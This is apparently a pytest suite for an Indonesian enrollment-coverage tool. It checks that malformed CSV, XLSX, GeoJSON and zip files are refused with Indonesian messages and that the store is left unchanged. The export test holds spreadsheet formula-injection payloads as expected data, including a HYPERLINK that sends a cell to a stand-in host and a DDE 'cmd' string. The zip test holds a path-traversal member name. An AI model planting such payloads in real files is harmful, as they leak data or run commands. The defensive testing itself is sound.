"""A corpus of bad files, each fed through the path a user takes, on SQLite and PostgreSQL.

Enrollment files go through ``geo.ingest.prepare_enrollment`` + ``commit_enrollment`` (the
Data page and the CLI both call these) and, for a few, through ``python -m geo`` itself
(``geo.cli.main``); boundary files through ``geo.ingest.import_boundaries``. Each refusal
must say, in Indonesian, which row/column is wrong and how to fix it, and leave the store
exactly as it was: every table row for row, and on SQLite the database file byte for byte.

Files live in tests/fixtures/bad/, written by make_bad.py there. The store holds the real
Kota Tangerang Selatan kelurahan (../shared/real) and one good snapshot (baik.csv).
"""
from __future__ import annotations

import builtins
import csv
import importlib.util
import io
import json
import os
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import shapely
from sqlalchemy import inspect, text
from geo.io.boundaries import load_boundaries
from geo.cli import main
from geo.coverage import coverage_table
from geo.export import to_csv_bytes, to_xlsx_bytes
from geo.ingest import commit_enrollment, import_boundaries, prepare_enrollment, template
from geo.schema import Col, FileRefused, RekamError, ValidationFailed
from geo.config import load_settings
from geo.store import Store
from geo.text import describe, describe_problem

BAD = Path(__file__).resolve().parents[1] / "fixtures" / "bad"
TANGSEL_DESA = "cahyadsn_wilayah_boundaries/desa_kelurahan_36.74_kota_tangerang_selatan.geojson"
FIRST_DATE, DATE = "2026-07-31", "2026-08-31"
FORMULA_START = ("=", "+", "-", "@")


# --- the store and its state --------------------------------------------------------------
@pytest.fixture(scope="module")
def tangsel_areas(real_dir):
    """The 54 Tangsel kelurahan (+ dissolved kecamatan and kota), loaded once per module."""
    return load_boundaries(real_dir / TANGSEL_DESA, level="desa")


def _seed(url: str, loaded) -> str:
    """Tangsel areas and one good snapshot; the store is closed after, so its files are settled."""
    store = Store.open(url)
    store.add_areas(loaded.areas, file_name=Path(TANGSEL_DESA).name, report=loaded.report)
    commit_enrollment(store, prepare_enrollment(store, BAD / "baik.csv"), tanggal=FIRST_DATE)
    store.close()
    return url


_PRISTINE: dict[str, dict] = {}  # the shared stores' state right after seeding


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def seeded(request, tmp_path_factory, tangsel_areas) -> str:
    """A seeded store per backend, shared by the tests that must leave it unchanged (each checks it)."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('bad') / 'rekam.sqlite'}"
    else:
        base, engine = request.getfixturevalue("pg_server")
        name = f"bad_files_{os.getpid()}"
        with engine.connect() as conn:
            conn.execute(text(f"CREATE DATABASE {name} TEMPLATE rekam_template"))
        url = f"{base}/{name}"
    _PRISTINE[url] = state(_seed(url, tangsel_areas))
    return url


@pytest.fixture
def tangsel(store_url, tangsel_areas) -> str:
    """A seeded store of its own (each backend), for tests that write to it."""
    return _seed(store_url, tangsel_areas)


_READERS: dict[str, Store] = {}  # one reading Store per shared store: reads never change a byte


@pytest.fixture(scope="module", autouse=True)
def _close_readers():
    yield
    while _READERS:
        _READERS.popitem()[1].close()


def state(url: str) -> dict:
    """Everything a store holds: the public views, every table row for row and, on SQLite, the file."""
    store = _READERS.get(url) or _READERS.setdefault(url, Store.open(url))
    areas = store.areas(geometry=True)
    out = {
        "history": store.history(),
        "enrollment": store.enrollment(),
        "areas": pd.DataFrame(areas.drop(columns="geometry")).assign(wkb=shapely.to_wkb(areas.geometry.values)),
    }
    with store.engine.connect() as conn:
        for name in sorted(inspect(conn).get_table_names()):
            if name != "spatial_ref_sys":  # PostGIS's own catalogue
                out[f"table {name}"] = sorted(map(repr, conn.execute(text(f'SELECT * FROM "{name}"')).all()))
    if url.startswith("sqlite"):
        path = Path(url.split(":///", 1)[1])
        out["file bytes"] = path.read_bytes()
        wal = path.with_name(path.name + "-wal")
        out["uncheckpointed wal bytes"] = wal.stat().st_size if wal.exists() else 0
    return out


def assert_unchanged(before: dict, after: dict) -> None:
    assert before.keys() == after.keys()
    for key, value in before.items():
        if isinstance(value, pd.DataFrame):
            pd.testing.assert_frame_equal(after[key], value, obj=key)
        else:
            assert after[key] == value, key


def cli(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def located(problems) -> list[tuple]:
    return [(p.key, p.row, p.column, p.severity) for p in problems]


# --- enrollment: refused before anything is stored ------------------------------------------
# file → (where it is refused, error key, (problem key, row, column) or None, Indonesian fragments)
REFUSED = {
    "negatif.csv": ("prepare", "validasi_gagal", ("angka_negatif", 3, "SUDAH REKAM"),
                    ["Berkas ditolak: 1 masalah", "Baris 3, kolom 'SUDAH REKAM'", "nilai -5 negatif",
                     "Perbaiki angkanya", "data lama tidak berubah"]),
    "teks_di_angka.csv": ("prepare", "validasi_gagal", ("bukan_angka", 2, "WAJIB KTP"),
                          ["Baris 2, kolom 'WAJIB KTP'", "'empat ribu' bukan angka", "Tulis bilangan bulat",
                           "misalnya 1.234"]),
    "kolom_hilang.csv": ("prepare", "validasi_gagal", ("kolom_hilang", 1, None),
                         ["Baris 1: kolom SUDAH REKAM tidak ditemukan",
                          "'KODE', 'DESA/KELURAHAN', 'WAJIB KTP', 'PRR'", "Tambahkan kolom itu",
                          "SUDAH MELAKUKAN PEREKAMAN"]),
    "wilayah_ganda.csv": ("commit", "validasi_gagal", ("wilayah_ganda", 2, "KODE"),
                          ["Baris 2, 5 menunjuk wilayah yang sama, Ciater (36.74.01.1001)",
                           "hapus atau perbaiki salah satunya"]),
    "kode_tak_dikenal.csv": ("commit", "ada_baris_tak_cocok", ("kode_tidak_dikenal", 3, "KODE"),
                             ["1 baris tidak dapat dicocokkan", "Perbaiki kode/nama di berkas",
                              "pilih wilayahnya di halaman Data"]),
    "kode_nama_lain.csv": ("commit", "ada_baris_tak_cocok", ("kode_nama_beda", 3, "DESA/KELURAHAN"),
                           ["1 baris tidak dapat dicocokkan", "Perbaiki kode/nama di berkas"]),
    "kosong.csv": ("prepare", "berkas_kosong", None,
                   ["'kosong.csv' tidak berisi baris data", "Isi satu baris per desa/kecamatan"]),
    "gambar.xlsx": ("prepare", "bukan_format", None,
                    ["'gambar.xlsx' bernama .xlsx tetapi isinya tampak seperti gambar PNG",
                     "simpan sebagai .xlsx (Excel Workbook) atau .csv"]),
    "biner.csv": ("prepare", "bukan_format", None,
                  ["'biner.csv' bernama .csv tetapi isinya tampak seperti data biner yang tidak dikenal",
                   "lalu unggah ulang"]),
    "sampah": ("prepare", "bukan_format", None, ["'sampah' bernama (tanpa ekstensi)", "data biner"]),
    "terpotong.xlsx": ("prepare", "xlsx_rusak", None,
                       ["Berkas Excel 'terpotong.xlsx' rusak atau terpotong", "unduh atau salin lagi"]),
    "isi_rusak.xlsx": ("prepare", "xlsx_rusak", None,
                       ["Berkas Excel 'isi_rusak.xlsx' rusak atau terpotong", "simpan ulang sebagai .xlsx"]),
}


@pytest.mark.parametrize("name", list(REFUSED))
def test_bad_enrollment_file_is_refused_with_its_row_and_column_and_the_store_is_unchanged(seeded, name):
    stage, key, where, fragments = REFUSED[name]
    before = _PRISTINE[seeded]
    store = Store.open(seeded)
    prepared = None
    with pytest.raises(RekamError) as err:
        prepared = prepare_enrollment(store, BAD / name)
        assert stage == "commit", f"{name} should have been refused while reading"
        commit_enrollment(store, prepared, tanggal=DATE)
    store.close()

    assert err.value.key == key
    said = describe(err.value)
    for fragment in fragments:
        assert fragment in said
    if where is not None:  # the row and column are named, in the error or in the join report
        problems = err.value.problems if isinstance(err.value, ValidationFailed) else prepared.join.problems
        assert where + ("error",) in located(problems)
        (problem,) = [p for p in problems if (p.key, p.row) == where[:2]]
        lokasi = f"Baris {where[1]}" + (f", kolom '{where[2]}'" if where[2] else "")
        assert describe_problem(problem).startswith(lokasi + ": ")
    assert_unchanged(before, state(seeded))


def test_unknown_code_names_the_code_and_row(seeded):
    store = Store.open(seeded)
    prepared = prepare_enrollment(store, BAD / "kode_tak_dikenal.csv")
    store.close()
    (problem,) = prepared.join.problems
    assert describe_problem(problem) == (
        "Baris 3, kolom 'KODE': Kode '36.74.01.1099' bukan kode desa yang dikenal; "
        "baris dicocokkan lewat namanya bila ada.")
    assert list(prepared.unmatched["baris"]) == [3]


def test_code_naming_another_area_is_never_stored_under_that_code(tangsel):
    """Ciater's code with Pondok Benda's name: refused, with Pondok Benda offered; skipping stores the rest."""
    store = Store.open(tangsel)
    prepared = prepare_enrollment(store, BAD / "kode_nama_lain.csv")
    (problem,) = [p for p in prepared.join.problems if p.severity == "error"]
    said = describe_problem(problem)
    assert said.startswith("Baris 3, kolom 'DESA/KELURAHAN': Kode 36.74.01.1001 adalah Ciater, tetapi nama di berkas "
                           "'KEL. PONDOK BENDA' tidak cocok")
    assert "Pondok Benda (36.74.06.1003)" in said and "Perbaiki kode atau nama" in said

    version = commit_enrollment(store, prepared, tanggal=DATE, skip_unmatched=True)
    now = store.enrollment(latest=True).set_index(Col.KODE)
    store.close()
    assert now.loc["36.74.01.1002", "version_id"] == version  # Rawa Buntu, the good row
    # Ciater and Pondok Benda keep their July figures: the refused row (25,100) went nowhere
    assert now.loc["36.74.01.1001", [Col.WAJIB, Col.TANGGAL]].tolist() == [17600, FIRST_DATE]
    assert now.loc["36.74.06.1003", [Col.WAJIB, Col.TANGGAL]].tolist() == [24346, FIRST_DATE]
    assert 25100 not in now[Col.WAJIB].tolist()


@pytest.mark.parametrize("name, fragments", [
    ("negatif.csv", ["Baris 3, kolom 'SUDAH REKAM': nilai -5 negatif"]),
    ("gambar.xlsx", ["isinya tampak seperti gambar PNG"]),
    ("kode_nama_lain.csv", ["Baris 3, kolom 'DESA/KELURAHAN': Kode 36.74.01.1001 adalah Ciater",
                            "baris 3: kandidat → 36.74.01.1001 Ciater", "36.74.06.1003 Pondok Benda",
                            "1 baris tidak dapat dicocokkan", "CLI: tambahkan --skip-unmatched"]),
    ("wilayah_ganda.csv", ["Baris 2, kolom 'KODE': Baris 2, 5 menunjuk wilayah yang sama, Ciater (36.74.01.1001)"]),
])
def test_cli_refuses_with_exit_1_and_the_message(seeded, capsys, name, fragments):
    before = _PRISTINE[seeded]
    code, out, err = cli(capsys, "import-enrollment", BAD / name, "--date", DATE, "--db", seeded)
    assert code == 1
    said = out + err
    for fragment in fragments:
        assert fragment in said
    assert "Traceback" not in said and "Tersimpan" not in said
    assert_unchanged(before, state(seeded))


# --- size limit ------------------------------------------------------------------------------
def test_file_over_the_size_limit_is_refused_before_a_byte_is_read(seeded, monkeypatch, capsys):
    big = BAD / "baik.csv"  # a good file (it is the seed snapshot), only too big for this limit
    assert big.stat().st_size > 0.001 * 1024 * 1024
    monkeypatch.setenv("REKAM_MAX_UPLOAD_MB", "0.001")
    upload = big.read_bytes()
    before = _PRISTINE[seeded]

    real_open, real_path_open = io.open, Path.open

    def guarded(file, *args, **kwargs):
        if Path(str(file)).name == big.name:
            raise AssertionError(f"{big.name} was opened before its size was checked")
        return real_open(file, *args, **kwargs)

    def guarded_path_open(self, *args, **kwargs):
        if self.name == big.name:
            raise AssertionError(f"{big.name} was opened before its size was checked")
        return real_path_open(self, *args, **kwargs)

    monkeypatch.setattr(io, "open", guarded)
    monkeypatch.setattr(builtins, "open", guarded)
    monkeypatch.setattr(Path, "open", guarded_path_open)

    store = Store.open(seeded)
    with pytest.raises(FileRefused) as err:
        prepare_enrollment(store, big, settings=load_settings())  # the limit as configured (env)
    assert err.value.key == "berkas_terlalu_besar"
    said = describe(err.value)
    assert said.startswith("Berkas terlalu besar (") and "pecah per kecamatan, lalu unggah ulang" in said
    with pytest.raises(FileRefused, match="berkas_terlalu_besar"):  # an upload's bytes: same limit
        prepare_enrollment(store, upload, file_name="baik.csv", settings=load_settings())
    store.close()

    code, _, stderr = cli(capsys, "import-enrollment", big, "--date", DATE, "--db", seeded)
    assert code == 1 and "Berkas terlalu besar" in stderr
    monkeypatch.undo()
    assert_unchanged(before, state(seeded))


# --- a warning is not a refusal --------------------------------------------------------------
def test_sudah_rekam_above_wajib_is_a_warning_and_the_import_succeeds(tangsel):
    store = Store.open(tangsel)
    prepared = prepare_enrollment(store, BAD / "melebihi_wajib.csv")
    assert located(prepared.warnings) == [("melebihi_wajib", 3, "SUDAH REKAM", "warning")]
    assert describe_problem(prepared.warnings[0]) == (
        "Baris 3, kolom 'SUDAH REKAM': sudah rekam (1.067) lebih besar dari wajib KTP (1.000), cakupan di atas "
        "100%. Diterima (data wajib KTP mungkin usang), tetapi periksa kedua angka.")
    version = commit_enrollment(store, prepared, tanggal=DATE)
    desa = coverage_table(store, "desa", within="36.74.01").set_index(Col.KODE)
    store.close()
    assert desa.loc["36.74.01.1002", Col.CAKUPAN] == pytest.approx(106.7)  # shown, flagged, not clipped
    assert bool(desa.loc["36.74.01.1002", Col.DI_ATAS_100])
    # never a negative belum: the 67 recorded beyond wajib KTP are counted apart
    assert (desa.loc["36.74.01.1002", Col.BELUM], desa.loc["36.74.01.1002", Col.KELEBIHAN]) == (0, 67)
    assert desa.loc["36.74.01.1002", Col.TANGGAL] == DATE and version == 3


def test_cli_prints_the_warning_and_stores(tangsel, capsys):
    code, out, err = cli(capsys, "import-enrollment", BAD / "melebihi_wajib.csv", "--date", DATE, "--db", tangsel)
    assert code == 0
    assert "Tersimpan sebagai versi 3: 3 wilayah, data per 31 Agustus 2026." in out
    assert "Peringatan: Baris 3, kolom 'SUDAH REKAM': sudah rekam (1.067) lebih besar dari wajib KTP (1.000)" in err


# --- personal data ---------------------------------------------------------------------------
NIK_TRACES = ("3674015507900001", "3674011201850002", "3674024304000003", "SITI AMINAH", "BUDI SANTOSO")


@pytest.fixture
def nothing_written(monkeypatch, tmp_path):
    """Fail any Python-level file creation or write, and list the places a copy could land."""
    def forbidden(*args, **kwargs):
        raise AssertionError("a file was written while handling a file with NIKs")

    real_open, real_os_open = io.open, os.open

    def read_only_open(file, mode="r", *args, **kwargs):
        if any(flag in mode for flag in "wax+"):
            forbidden()
        return real_open(file, mode, *args, **kwargs)

    def read_only_os_open(path, flags, *args, **kwargs):
        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND):
            forbidden()
        return real_os_open(path, flags, *args, **kwargs)

    private = tmp_path / "systmp"  # tempfile's directory, where a copy would go
    private.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    places = [private, tmp_path, BAD]

    def listing():
        return {str(p): sorted(os.listdir(p)) for p in places}

    before = listing()
    for name in ("mkstemp", "mkdtemp", "NamedTemporaryFile", "TemporaryFile", "SpooledTemporaryFile",
                 "TemporaryDirectory"):
        monkeypatch.setattr(tempfile, name, forbidden)
    monkeypatch.setattr(io, "open", read_only_open)
    monkeypatch.setattr(builtins, "open", read_only_open)
    monkeypatch.setattr(os, "open", read_only_os_open)
    for method in ("write_bytes", "write_text", "touch"):
        monkeypatch.setattr(Path, method, forbidden)
    yield
    monkeypatch.undo()
    assert listing() == before


def test_nik_file_is_refused_and_leaves_no_trace(seeded, nothing_written, capsys):
    before = _PRISTINE[seeded]
    store = Store.open(seeded)
    with pytest.raises(FileRefused) as err:
        prepare_enrollment(store, BAD / "nik.csv")
    with pytest.raises(FileRefused, match="berisi_nik"):  # as an upload's bytes, as the Data page sends it
        prepare_enrollment(store, (BAD / "nik.csv").read_bytes(), file_name="nik.csv")
    store.close()
    code, out, stderr = cli(capsys, "import-enrollment", BAD / "nik.csv", "--date", DATE, "--db", seeded)

    assert err.value.key == "berisi_nik"
    said = describe(err.value)
    assert "kolom C 'NIK' tampak berisi NIK" in said and "(3 nilai 16 digit)" in said and "lembar" not in said
    assert "Hapus kolom itu dan nama penduduk, lalu unggah ulang; berkas ini tidak disimpan." in said
    assert code == 1 and said in stderr
    for trace in NIK_TRACES:  # never echoed back
        assert trace not in said and trace not in out + stderr
    after = state(seeded)
    assert_unchanged(before, after)
    assert not any(trace in row for key in after if key.startswith("table") for row in after[key]
                   for trace in NIK_TRACES)


# --- exports never carry a formula ------------------------------------------------------------
def _is_neutral(value) -> bool:
    return not (isinstance(value, str) and value.startswith(FORMULA_START))


def test_formula_text_is_neutralised_in_templates_and_exports(store_url, tmp_path, capsys):
    store = Store.open(store_url)
    loaded = import_boundaries(store, BAD / "rumus.geojson", level="desa")
    assert loaded.loaded.report["levels"] == {"kabupaten": 1, "kecamatan": 1, "desa": 3}
    frame = template(store, within="36.74.01")
    store.close()
    assert frame["nama"].tolist()[0].startswith("=HYPERLINK(")  # stored as written; neutralised on export

    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[0][:3] == ["kode", "nama", "kecamatan"]
    names = {r[0]: (r[1], r[2]) for r in rows[1:]}
    assert names["36.74.01.1001"][0] == "'=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Ciater\")"
    assert names["36.74.01.1002"][0] == "'+Rawa Buntu"
    assert names["36.74.01.1003"][0] == "'-2+3"
    assert {k for _, k in names.values()} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(_is_neutral(cell) for row in rows for cell in row)

    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"templat": frame})))
    cells = [c for row in book["templat"].iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" and _is_neutral(c.value) for c in cells)
    assert "'+Rawa Buntu" in [c.value for c in cells]

    over = tmp_path / "lebih.csv"  # recorded beyond wajib: belum 0, the surplus a number apart
    over.write_text("KODE;WAJIB KTP;SUDAH REKAM\n36.74.01.1001;1000;1067\n", encoding="utf-8")
    assert cli(capsys, "import-enrollment", over, "--date", DATE, "--skip-unmatched", "--db", store_url)[0] == 0
    code, out, _ = cli(capsys, "coverage", "--level", "desa", "--format", "csv", "--db", store_url)
    assert code == 0
    table = {r["kode"]: r for r in csv.DictReader(io.StringIO(out))}
    assert table["36.74.01.1001"]["nama"].startswith("'=HYPERLINK(")
    assert (table["36.74.01.1001"]["belum_rekam"], table["36.74.01.1001"]["kelebihan_rekam"]) == ("0", "67")
    assert table["36.74.01.1003"]["nama"] == "'-2+3"
    assert all(_is_neutral(v) for r in table.values() for k, v in r.items() if k not in ("belum_rekam", "kelebihan_rekam"))


# --- boundaries -------------------------------------------------------------------------------
@pytest.mark.parametrize("name, key, fragments", [
    ("tanpa_fitur.geojson", "batas_kosong", ["tidak berisi satu pun wilayah (poligon)", "ekspor ulang"]),
    ("sampah.geojson", "batas_tidak_terbaca", ["'sampah.geojson' tidak bisa dibaca", "Periksa apakah berkasnya utuh"]),
])
def test_bad_boundary_file_is_refused_and_the_store_is_unchanged(seeded, capsys, name, key, fragments):
    before = _PRISTINE[seeded]
    store = Store.open(seeded)
    with pytest.raises(FileRefused) as err:
        import_boundaries(store, BAD / name, level="desa")
    store.close()
    assert err.value.key == key
    said = describe(err.value)
    for fragment in fragments:
        assert fragment in said
    code, _, stderr = cli(capsys, "import-boundaries", BAD / name, "--db", seeded)
    assert code == 1 and said in stderr and "Traceback" not in stderr
    assert_unchanged(before, state(seeded))


def test_bowtie_polygon_is_repaired_and_reported(store_url, capsys):
    store = Store.open(store_url)
    result = import_boundaries(store, BAD / "dasi_kupu.geojson", level="desa")
    assert (result.loaded.report["n_repaired"], result.loaded.report["repaired_kode"]) == (1, ["36.74.01.1001"])
    areas = store.areas(level="desa", geometry=True).set_index(Col.KODE)
    (version,) = store.history()["report"]
    store.close()
    repaired = areas.geometry["36.74.01.1001"]
    assert repaired.is_valid and repaired.geom_type == "MultiPolygon"
    assert repaired.area == pytest.approx(0.0002)  # the two triangles of the bowtie, nothing lost
    assert version["n_repaired"] == 1  # kept with the version, for the Data page's report

    code, out, _ = cli(capsys, "import-boundaries", BAD / "dasi_kupu.geojson", "--level", "desa", "--force",
                       "--db", store_url)
    assert code == 0 and out.startswith("Tersimpan sebagai versi 2: 1 kabupaten, 1 kecamatan, 2 desa.")
    assert json.loads(out.split("\n", 1)[1])["n_repaired"] == 1


def test_zip_climbing_out_of_its_folder_is_refused_and_nothing_is_extracted(seeded, tmp_path, monkeypatch,
                                                                           capsys):
    private = tmp_path / "systmp"
    private.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    members = zipfile.ZipFile(BAD / "jalur_naik.zip").namelist()
    assert all(m.startswith("desa/../../") for m in members)
    before = _PRISTINE[seeded]

    store = Store.open(seeded)
    for source, file_name in ((BAD / "jalur_naik.zip", None), ((BAD / "jalur_naik.zip").read_bytes(), "desa.zip")):
        with pytest.raises(FileRefused) as err:
            import_boundaries(store, source, file_name=file_name)
        assert err.value.key == "batas_zip_tidak_aman"
        said = describe(err.value)
        assert "jalur berbahaya 'desa/../../bocor.shp'" in said and "Kemas ulang" in said
    store.close()
    code, _, stderr = cli(capsys, "import-boundaries", BAD / "jalur_naik.zip", "--db", seeded)
    assert code == 1 and "Zip ditolak" in stderr

    assert list(private.iterdir()) == []  # the upload's private copy is gone too
    for base in (private, tmp_path, BAD, Path.cwd()):
        for place in (base, base.parent, base.parent.parent):
            assert not list(place.glob("bocor.*")), place
    assert_unchanged(before, state(seeded))


# --- the corpus itself ---------------------------------------------------------------------------
def test_corpus_script_reproduces_the_committed_files(tmp_path):
    spec = importlib.util.spec_from_file_location("make_bad", BAD / "make_bad.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.main(tmp_path)
    made = sorted(p.name for p in tmp_path.iterdir())
    assert made == sorted(p.name for p in BAD.iterdir() if p.is_file() and p.name != "make_bad.py")
    for name in made:
        assert (tmp_path / name).read_bytes() == (BAD / name).read_bytes(), name
